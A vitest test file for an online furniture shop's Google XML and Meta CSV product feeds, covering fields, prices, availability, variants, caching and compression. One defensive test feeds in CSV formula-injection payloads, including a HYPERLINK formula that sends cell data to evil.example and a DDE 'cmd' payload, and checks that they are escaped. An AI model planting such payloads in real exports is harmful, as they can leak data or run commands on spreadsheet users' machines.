import { gunzipSync } from "node:zlib";
import { parse as parseCsv } from "csv-parse/sync";
import { XMLParser } from "fast-xml-parser";
import { beforeAll, describe, expect, it } from "vitest";
import { readyBy } from "../../../domain/catalog/furniture";
import { adminCookie, imageDataUrl } from "../../../tests/support/admin-session";
import { insertCollection, insertProduct, makeImage } from "../../../tests/support/catalog-factory";
import { TEST_SITE, useTestApp } from "../../../tests/support/test-app";
import { productImages, productOptionImages, productOptions, products } from "../../db/schema/catalog";
import { acceptsGzip } from "./feeds.routes";
import { createProductFeeds, FEED_PAGE_SIZE, plainDescription } from "./feeds.service";
import type { CatalogCache } from "../catalog/catalog-cache";

const t = useTestApp();
const BASE = TEST_SITE.PUBLIC_URL;

/** Google's availability values, and Meta's (docs/product.md, Product feeds). */
const GOOGLE_AVAILABILITY = ["in_stock", "out_of_stock", "preorder", "backorder"];
const META_AVAILABILITY = ["in stock", "out of stock", "preorder", "available for order"];
const PRICE = /^\d+\.\d{2} NGN$/;
/** Google's ISO 8601 form: a date, a time and an offset. */
const GOOGLE_DATE = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(?:[+-]\d{4}|Z)$/;

type GoogleItem = Record<string, string | string[] | undefined> & { "g:additional_image_link": string[] };

const xml = new XMLParser({
  parseTagValue: false,
  trimValues: false,
  isArray: (name) => name === "item" || name === "g:additional_image_link",
});

function googleItems(body: string): GoogleItem[] {
  const document = xml.parse(body) as {
    rss: { "@_version"?: string; channel: { title: string; link: string; item?: GoogleItem[] } };
  };
  expect(document.rss.channel.title).toBe(TEST_SITE.SHOP_NAME);
  return (document.rss.channel.item ?? []).map((item) => ({
    ...item,
    "g:additional_image_link": item["g:additional_image_link"] ?? [],
  }));
}

function metaRows(body: string): Record<string, string>[] {
  return parseCsv(body, { columns: true, bom: false, relax_quotes: false, skip_empty_lines: true });
}

function isAbsoluteUrl(value: string | undefined): boolean {
  if (!value) return false;
  try {
    const url = new URL(value);
    return (url.protocol === "https:" || url.protocol === "http:") && value.startsWith(BASE);
  } catch {
    return false;
  }
}

const amount = (price: string) => Number(price.replace(/ NGN$/, ""));

async function read(url: string) {
  const response = await t.app.inject({ method: "GET", url });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

const ids: Record<string, string> = {};
const optionIds: string[] = [];
/** Older pieces, more than two pages of them: the feed reads the catalogue a page at a time. */
const backlog: string[] = [];
const pictures: Record<string, string> = {};

beforeAll(async () => {
  const [first, second, third, optionPicture] = await Promise.all([
    makeImage(t.db, t.mediaDir, "#aa3311"),
    makeImage(t.db, t.mediaDir, "#11aa33"),
    makeImage(t.db, t.mediaDir, "#3311aa"),
    makeImage(t.db, t.mediaDir, "#777777"),
  ]);
  Object.assign(pictures, { first: first.id, second: second.id, third: third.id, option: optionPicture.id });
  const draftCollection = await insertCollection(t.db, { name: "Secret Draft Set", status: "draft" });

  ids.inStock = (
    await insertProduct(t.db, {
      name: "Lekki Sofa",
      description: "<p>Oak &amp; brass, <strong>hand</strong> made.</p><ul><li>Three seats</li><li>Cushions</li></ul>",
      priceKobo: 1_234_500,
      images: [first, second, third],
      materials: "Solid oak, velvet",
      widthCm: 220,
      depthCm: 95,
      heightCm: 80,
      make: "Natuzzi",
    })
  ).id;
  ids.promo = (
    await insertProduct(t.db, {
      name: "Promo Armchair",
      category: "Armchair",
      style: "Glam",
      priceKobo: 500_000_00,
      discountedPriceKobo: 450_000_50,
      isPromo: true,
      images: [first],
    })
  ).id;
  ids.sold = (await insertProduct(t.db, { name: "Sold Bed", category: "Bedroom", sold: true, images: [second] })).id;
  ids.madeToOrder = (
    await insertProduct(t.db, {
      name: "Made Wardrobe",
      category: "Wardrobe",
      availabilityKind: "made_to_order",
      weeksFrom: 6,
      weeksTo: 8,
      images: [third],
    })
  ).id;
  ids.imported = (
    await insertProduct(t.db, {
      name: "Imported TV Unit",
      category: "TV Unit",
      availabilityKind: "imported",
      weeksFrom: 10,
      isForeign: true,
      origin: "Italy",
      images: [first],
    })
  ).id;
  ids.options = (
    await insertProduct(t.db, {
      name: "Finish Table",
      category: "Center Table",
      style: "Bespoke",
      images: [first, second],
    })
  ).id;
  const options = await t.db
    .insert(productOptions)
    .values([
      // Walnut: a swatch, a photo of the piece in walnut and ₦120,000 more.
      {
        productId: ids.options,
        position: 0,
        name: "Walnut",
        mediaId: optionPicture.id,
        priceDifferenceKobo: 120_000_00,
      },
      { productId: ids.options, position: 1, name: 'Oak, "natural" & <light>', mediaId: null },
    ])
    .returning({ id: productOptions.id });
  optionIds.push(...options.map((option) => option.id));
  await t.db.insert(productOptionImages).values({ optionId: optionIds[0]!, mediaId: third.id, position: 0 });
  ids.inDraftCollection = (
    await insertProduct(t.db, {
      name: "Set Piece Rug",
      category: "Carpet",
      collectionId: draftCollection.id,
      images: [first],
    })
  ).id;
  ids.draft = (await insertProduct(t.db, { name: "Unfinished Draft Sofa", status: "draft", images: [first] })).id;
  const older = await t.db
    .insert(products)
    .values(
      Array.from({ length: FEED_PAGE_SIZE * 2 + 1 }, (_, i) => ({
        name: `Backlog Stool ${i}`,
        description: "<p>From the workshop.</p>",
        items: "1 stool",
        priceKobo: 10_000_00 + i,
        category: "Armchair",
        style: "Minimalist",
        createdAt: new Date(Date.UTC(2025, 0, 1) + i * 1000),
      })),
    )
    .returning({ id: products.id });
  backlog.push(...older.map((row) => row.id));
  await t.db.insert(productImages).values(older.map((row) => ({ productId: row.id, mediaId: second.id, position: 0 })));
});

describe("GET /feeds/google.xml", () => {
  it("is Google's RSS with every required field, valid, on every item", async () => {
    const response = await read("/feeds/google.xml");
    expect(response.headers["content-type"]).toBe("application/xml; charset=utf-8");
    expect(response.headers["cache-control"]).toBe("public, max-age=300");
    expect(response.headers.etag).toMatch(/^W\/"[^"]+"$/);
    expect(response.body).toMatch(
      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<rss version="2.0" xmlns:g="http:\/\/base.google.com\/ns\/1.0">/,
    );

    const items = googleItems(response.body);
    expect(items.length).toBeGreaterThan(0);
    const seen = new Set<string>();
    for (const item of items) {
      const id = item["g:id"] as string;
      expect(id, JSON.stringify(item)).toMatch(/^.{1,50}$/);
      expect(seen.has(id)).toBe(false);
      seen.add(id);
      const title = item["g:title"] as string;
      expect(title.length).toBeGreaterThan(0);
      expect(title.length).toBeLessThanOrEqual(150);
      const description = item["g:description"] as string;
      expect(description.length).toBeGreaterThan(0);
      expect(description.length).toBeLessThanOrEqual(5000);
      expect(description).not.toMatch(/<\/?[a-z]/i);
      expect(isAbsoluteUrl(item["g:link"] as string)).toBe(true);
      expect(isAbsoluteUrl(item["g:image_link"] as string)).toBe(true);
      expect(item["g:additional_image_link"].length).toBeLessThanOrEqual(10);
      for (const link of item["g:additional_image_link"]) expect(isAbsoluteUrl(link)).toBe(true);
      const availability = item["g:availability"] as string;
      expect(GOOGLE_AVAILABILITY).toContain(availability);
      if (availability === "preorder" || availability === "backorder") {
        expect(item["g:availability_date"]).toMatch(GOOGLE_DATE);
      }
      expect(item["g:price"]).toMatch(PRICE);
      if (item["g:sale_price"] !== undefined) {
        expect(item["g:sale_price"]).toMatch(PRICE);
        expect(amount(item["g:sale_price"] as string)).toBeLessThan(amount(item["g:price"] as string));
      }
      expect(item["g:condition"]).toBe("new");
      expect((item["g:brand"] as string).length).toBeGreaterThan(0);
      expect(item["g:product_type"]).toMatch(/^[^>]+ > [^>]+$/);
      expect(item["g:google_product_category"]).toMatch(/^\d+$/);
      expect(item["g:identifier_exists"]).toBe("no");
      if (item["g:item_group_id"] !== undefined) expect((item["g:color"] as string).length).toBeGreaterThan(0);
    }
  });

  it("says what each piece is: plain text, prices, availability, size, pictures and brand", async () => {
    const items = googleItems((await read("/feeds/google.xml")).body);
    const byId = new Map(items.map((item) => [item["g:id"] as string, item]));

    expect(byId.get(ids.inStock!)).toMatchObject({
      "g:title": "Lekki Sofa",
      "g:description": "Oak & brass, hand made. Three seats Cushions",
      "g:link": `${BASE}/product/${ids.inStock}`,
      "g:availability": "in_stock",
      "g:price": "12345.00 NGN",
      "g:brand": "Natuzzi",
      "g:product_type": "Living Room > Modern",
      "g:google_product_category": "460",
      "g:material": "Solid oak, velvet",
      "g:product_length": "95 cm",
      "g:product_width": "220 cm",
      "g:product_height": "80 cm",
    });
    const sofa = byId.get(ids.inStock!)!;
    expect(sofa["g:availability_date"]).toBeUndefined();
    expect(sofa["g:sale_price"]).toBeUndefined();
    expect(sofa["g:image_link"]).toMatch(new RegExp(`^${BASE}/media/${pictures.first}/\\d+\\.jpg$`));
    expect(sofa["g:additional_image_link"]).toEqual([
      expect.stringMatching(new RegExp(`^${BASE}/media/${pictures.second}/`)),
      expect.stringMatching(new RegExp(`^${BASE}/media/${pictures.third}/`)),
    ]);

    // Without a make, the brand is the shop's name.
    expect(byId.get(ids.promo!)).toMatchObject({
      "g:price": "500000.00 NGN",
      "g:sale_price": "450000.50 NGN",
      "g:brand": TEST_SITE.SHOP_NAME,
      "g:google_product_category": "6499",
    });
    expect(byId.get(ids.sold!)).toMatchObject({ "g:availability": "out_of_stock" });
    expect(byId.get(ids.sold!)!["g:availability_date"]).toBeUndefined();
    expect(byId.get(ids.madeToOrder!)).toMatchObject({
      "g:availability": "backorder",
      "g:availability_date": `${readyBy({ kind: "made_to_order", weeksFrom: 6, weeksTo: 8 })}T00:00+0100`,
    });
    expect(byId.get(ids.imported!)).toMatchObject({
      "g:availability": "backorder",
      "g:availability_date": `${readyBy({ kind: "imported", weeksFrom: 10, weeksTo: null })}T00:00+0100`,
    });
  });

  it("gives a product with options one item per option, grouped by the product", async () => {
    const items = googleItems((await read("/feeds/google.xml")).body);
    expect(items.some((item) => item["g:id"] === ids.options)).toBe(false);
    const grouped = items.filter((item) => item["g:item_group_id"] === ids.options);
    expect(grouped.map((item) => item["g:id"])).toEqual(optionIds);
    expect(grouped[0]).toMatchObject({
      "g:title": "Finish Table, Walnut",
      "g:color": "Walnut",
      "g:link": `${BASE}/product/${ids.options}?option=${optionIds[0]}`,
      "g:google_product_category": "1395",
    });
    // The piece in walnut first, then the product's own; the swatch is no photo of the piece.
    expect(grouped[0]!["g:image_link"]).toMatch(new RegExp(`^${BASE}/media/${pictures.third}/`));
    expect(grouped[0]!["g:additional_image_link"]).toEqual([
      expect.stringMatching(new RegExp(`^${BASE}/media/${pictures.first}/`)),
      expect.stringMatching(new RegExp(`^${BASE}/media/${pictures.second}/`)),
    ]);
    expect(JSON.stringify(grouped)).not.toContain(pictures.option);
    // Walnut costs its price difference more; oak, the product's price.
    expect(grouped.map((item) => item["g:price"])).toEqual(["620000.00 NGN", "500000.00 NGN"]);
    // An option without photos shows the product's, and its name survives XML escaping.
    expect(grouped[1]).toMatchObject({ "g:color": 'Oak, "natural" & <light>' });
    expect(grouped[1]!["g:image_link"]).toMatch(new RegExp(`^${BASE}/media/${pictures.first}/`));
    expect(grouped[1]!["g:additional_image_link"]).toEqual([
      expect.stringMatching(new RegExp(`^${BASE}/media/${pictures.second}/`)),
    ]);
  });

  it("lists a catalogue of several pages whole, each product once", async () => {
    const listed = googleItems((await read("/feeds/google.xml")).body).map((item) => item["g:id"] as string);
    expect(new Set(listed).size).toBe(listed.length);
    expect(listed.filter((id) => backlog.includes(id)).sort()).toEqual([...backlog].sort());
    // The eight pieces above: one a draft, one in two options.
    expect(listed).toHaveLength(backlog.length + 6 + 2);
  });

  it("leaves drafts out, and keeps a piece of a draft collection without naming the collection", async () => {
    const response = await read("/feeds/google.xml");
    const listed = googleItems(response.body).map((item) => item["g:id"]);
    expect(listed).not.toContain(ids.draft);
    expect(response.body).not.toContain("Unfinished Draft Sofa");
    expect(listed).toContain(ids.inDraftCollection);
    expect(response.body).not.toContain("Secret Draft Set");
  });

  it("answers 304 to a client that holds the same version", async () => {
    const first = await read("/feeds/google.xml");
    const again = await t.app.inject({
      method: "GET",
      url: "/feeds/google.xml",
      headers: { "if-none-match": first.headers.etag as string },
    });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe("");
    expect(again.headers.etag).toBe(first.headers.etag);
  });
});

describe("GET /feeds/meta.csv", () => {
  it("is Meta's CSV with every required column, valid, on every row", async () => {
    const response = await read("/feeds/meta.csv");
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["cache-control"]).toBe("public, max-age=300");
    expect(response.headers.etag).toMatch(/^W\/"[^"]+"$/);
    expect(response.body.split("\r\n")[0]).toBe(
      "id,title,description,availability,condition,price,link,image_link,brand,additional_image_link,sale_price,item_group_id,color,material,product_type,google_product_category",
    );
    expect(response.body.endsWith("\r\n")).toBe(true);

    const rows = metaRows(response.body);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      for (const column of [
        "id",
        "title",
        "description",
        "availability",
        "condition",
        "price",
        "link",
        "image_link",
        "brand",
      ]) {
        expect(row[column], `${column} of ${JSON.stringify(row)}`).not.toBe("");
      }
      expect(row.title!.length).toBeLessThanOrEqual(150);
      expect(row.description!.length).toBeLessThanOrEqual(5000);
      expect(META_AVAILABILITY).toContain(row.availability);
      expect(row.condition).toBe("new");
      expect(row.price).toMatch(PRICE);
      if (row.sale_price) expect(row.sale_price).toMatch(PRICE);
      expect(isAbsoluteUrl(row.link)).toBe(true);
      expect(isAbsoluteUrl(row.image_link)).toBe(true);
      const more = row.additional_image_link ? row.additional_image_link.split(",") : [];
      for (const link of more) expect(isAbsoluteUrl(link)).toBe(true);
      expect(row.google_product_category).toMatch(/^\d+$/);
    }
  });

  it("has the same items as Google's feed, in Meta's words", async () => {
    const rows = metaRows((await read("/feeds/meta.csv")).body);
    const google = googleItems((await read("/feeds/google.xml")).body);
    expect(rows.map((row) => row.id)).toEqual(google.map((item) => item["g:id"]));
    const byId = new Map(rows.map((row) => [row.id!, row]));

    expect(byId.get(ids.inStock!)).toMatchObject({
      description: "Oak & brass, hand made. Three seats Cushions",
      availability: "in stock",
      price: "12345.00 NGN",
      sale_price: "",
      material: "Solid oak, velvet",
      product_type: "Living Room > Modern",
    });
    expect(byId.get(ids.inStock!)!.additional_image_link!.split(",")).toHaveLength(2);
    expect(byId.get(ids.promo!)).toMatchObject({ price: "500000.00 NGN", sale_price: "450000.50 NGN" });
    expect(byId.get(ids.sold!)).toMatchObject({ availability: "out of stock" });
    expect(byId.get(ids.madeToOrder!)).toMatchObject({ availability: "available for order" });
    expect(byId.get(ids.imported!)).toMatchObject({ availability: "available for order" });
    // A comma, quotes and a line of markup come through the quoting intact.
    expect(byId.get(optionIds[0]!)).toMatchObject({ price: "620000.00 NGN", sale_price: "" });
    expect(byId.get(optionIds[1]!)).toMatchObject({
      item_group_id: ids.options,
      price: "500000.00 NGN",
      color: 'Oak, "natural" & <light>',
      title: 'Finish Table, Oak, "natural" & <light>',
    });
    expect(byId.has(ids.draft!)).toBe(false);
    expect(byId.has(ids.options!)).toBe(false);
  });
});

describe("a spreadsheet opening the Meta feed", () => {
  it("runs no formula: a cell starting with = + - or @ starts with an apostrophe instead", async () => {
    const cookie = await adminCookie(t);
    const added = await t.app.inject({
      method: "POST",
      url: "/api/admin/operations/addProduct",
      headers: { cookie },
      payload: {
        name: '=HYPERLINK("https://evil.example/?d="&A1,"Sofa")',
        description: "<p>-2+3 weeks to make</p>",
        items: "1 sofa",
        price: 400000,
        category: "Living Room",
        style: "Modern",
        make: "@SUM(1+1)",
        materials: "+cmd|' /C calc'!A0",
        images: [await imageDataUrl("#996633")],
        options: [{ name: "=1+1" }, { name: "Oak" }],
      },
    });
    expect(added.statusCode, added.body).toBe(201);
    const id = added.json<{ _id: string }>()._id;

    const rows = metaRows((await read("/feeds/meta.csv")).body).filter((row) => row.item_group_id === id);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row).toMatchObject({
        title: expect.stringMatching(/^'=HYPERLINK\(/),
        description: "'-2+3 weeks to make",
        brand: "'@SUM(1+1)",
        material: "'+cmd|' /C calc'!A0",
      });
    }
    expect(rows.map((row) => row.color)).toEqual(["'=1+1", "Oak"]);
    // Every other cell of the feed is as it was: no apostrophe where none is needed.
    const others = metaRows((await read("/feeds/meta.csv")).body).filter((row) => row.item_group_id !== id);
    expect(others.flatMap((row) => Object.values(row)).filter((cell) => cell.startsWith("'"))).toEqual([]);
  });
});

describe("a catalogue change", () => {
  it("shows in the next read of either feed, and changes its version", async () => {
    const googleBefore = await read("/feeds/google.xml");
    const metaBefore = await read("/feeds/meta.csv");
    // Read twice without a change: the same version.
    expect((await read("/feeds/google.xml")).headers.etag).toBe(googleBefore.headers.etag);

    const cookie = await adminCookie(t);
    const update = await t.app.inject({
      method: "PUT",
      url: `/api/admin/operations/updateProduct/${ids.promo}`,
      headers: { cookie },
      payload: {
        name: "Renamed Armchair",
        description: "<p>Still soft.</p>",
        items: "1 chair",
        price: 600000,
        category: "Armchair",
        style: "Glam",
        sold: true,
      },
    });
    expect(update.statusCode, update.body).toBe(200);

    const googleAfter = await read("/feeds/google.xml");
    expect(googleAfter.headers.etag).not.toBe(googleBefore.headers.etag);
    expect(googleItems(googleAfter.body).find((item) => item["g:id"] === ids.promo)).toMatchObject({
      "g:title": "Renamed Armchair",
      "g:availability": "out_of_stock",
    });
    const metaAfter = await read("/feeds/meta.csv");
    expect(metaAfter.headers.etag).not.toBe(metaBefore.headers.etag);
    expect(metaRows(metaAfter.body).find((row) => row.id === ids.promo)).toMatchObject({
      title: "Renamed Armchair",
      availability: "out of stock",
    });
  });
});

describe("building", () => {
  it("runs one build of a feed at a time, even while the catalogue cache is off", async () => {
    // The cache with its listener down: nothing kept, every read computed afresh.
    const cacheOff: CatalogCache = {
      remember: (_key, compute) => compute(),
      invalidate: () => {},
      onInvalidate: () => () => {},
      listening: false,
      close: async () => {},
      stats: () => ({ entries: 0, size: 0 }),
    };
    let builds = 0;
    const settings = {
      ...t.app.shopSettings,
      cached: () => {
        builds += 1;
        return t.app.shopSettings.cached();
      },
    };
    const feeds = createProductFeeds({ db: t.db, cache: cacheOff, settings, publicUrl: BASE });
    const burst = await Promise.all(Array.from({ length: 6 }, () => feeds.read("google")));
    // The first request's build, and one more for all who asked while it ran.
    expect(builds).toBe(2);
    expect(new Set(burst.map((feed) => feed.etag)).size).toBe(1);
    // Nothing kept while the cache is off: the next request builds again.
    await feeds.read("google");
    expect(builds).toBe(3);
  });
});

describe("compression", () => {
  it("sends the feed gzipped, as built, to a client that takes gzip, and plain to one that does not", async () => {
    for (const url of ["/feeds/google.xml", "/feeds/meta.csv"]) {
      const plain = await read(url);
      expect(plain.headers["content-encoding"]).toBeUndefined();
      expect(plain.headers.vary).toMatch(/accept-encoding/i);
      for (const acceptEncoding of ["gzip", "br, gzip;q=0.8", "*"]) {
        const zipped = await t.app.inject({ method: "GET", url, headers: { "accept-encoding": acceptEncoding } });
        expect(zipped.headers["content-encoding"]).toBe("gzip");
        expect(zipped.headers.etag).toBe(plain.headers.etag);
        expect(gunzipSync(zipped.rawPayload).toString("utf8")).toBe(plain.body);
      }
      // Brotli alone is not offered: the feed is not compressed again for every request.
      const brotli = await t.app.inject({ method: "GET", url, headers: { "accept-encoding": "br" } });
      expect(brotli.headers["content-encoding"]).toBeUndefined();
      expect(brotli.body).toBe(plain.body);
    }
  });

  it("reads Accept-Encoding's qualities", () => {
    expect(acceptsGzip(undefined)).toBe(false);
    expect(acceptsGzip("identity")).toBe(false);
    expect(acceptsGzip("gzip;q=0")).toBe(false);
    expect(acceptsGzip("*;q=0.5, gzip;q=0")).toBe(false);
    expect(acceptsGzip("GZIP")).toBe(true);
    expect(acceptsGzip("x-gzip")).toBe(true);
    expect(acceptsGzip("deflate, *;q=0.1")).toBe(true);
  });
});

describe("the feeds and robots.txt", () => {
  it("leaves the feeds open to crawlers", async () => {
    const robots = (await read("/robots.txt")).body;
    const disallowed = robots
      .split("\n")
      .filter((line) => line.startsWith("Disallow: "))
      .map((line) => line.slice("Disallow: ".length));
    for (const feed of ["/feeds/google.xml", "/feeds/meta.csv"]) {
      expect(disallowed.filter((path) => feed.startsWith(path))).toEqual([]);
    }
  });
});

describe("plainDescription", () => {
  it("keeps the text a reader sees, blocks apart and characters unescaped", () => {
    expect(plainDescription("<h2>Size</h2><p>A&nbsp;&amp;&nbsp;B &lt;3 &quot;x&quot;</p><p>Next<br />line</p>")).toBe(
      'Size A & B <3 "x" Next line',
    );
    expect(plainDescription("<p>&amp;lt; stays written out</p>")).toBe("&lt; stays written out");
  });
});
